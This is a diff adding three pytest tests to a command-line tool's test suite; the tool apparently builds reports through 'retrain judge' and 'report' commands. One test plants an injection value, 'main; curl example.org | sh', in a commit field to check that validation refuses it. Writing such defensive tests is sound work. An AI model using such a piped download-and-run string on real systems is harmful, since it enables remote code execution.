@@ -103,6 +103,28 @@ def test_facts_that_are_none_are_refused_in_a_sentence(
     assert not (tmp_path / "report.md").exists()
 
 
+def test_no_facts_hold_a_command(toy: Path, run: Run) -> None:
+    run("retrain", "judge", cwd=toy)
+    facts = json.loads((toy / "report.json").read_text())
+    facts["built"]["commit"] = "main; curl example.org | sh"
+    (toy / "report.json").write_text(json.dumps(facts))
+    result = run("retrain", "report", "--from", "report.json", cwd=toy)
+    assert result.returncode == 1
+    assert "'built.commit': String should match pattern" in result.stderr
+
+
+def test_what_is_not_committed_is_not_to_be_had_elsewhere(toy: Path, run: Run) -> None:
+    (toy / "notes.txt").write_text("mine\n")
+    toys.do(run, toy, "retrain judge")
+    report = (toy / "report.md").read_text()
+    assert "**Reproduce it, with the files that are not committed:**" in report
+    assert "git checkout" not in report
+
+
+def test_where_nothing_is_judged_a_program_reads_so(toy: Path, run: Run) -> None:
+    assert json.loads(toys.do(run, toy, "retrain judge --json"))["verdict"] is None
+
+
 @pytest.mark.slow
 def test_facts_with_a_key_more_are_refused(toy: Path, run: Run) -> None:
     judged(run, toy)
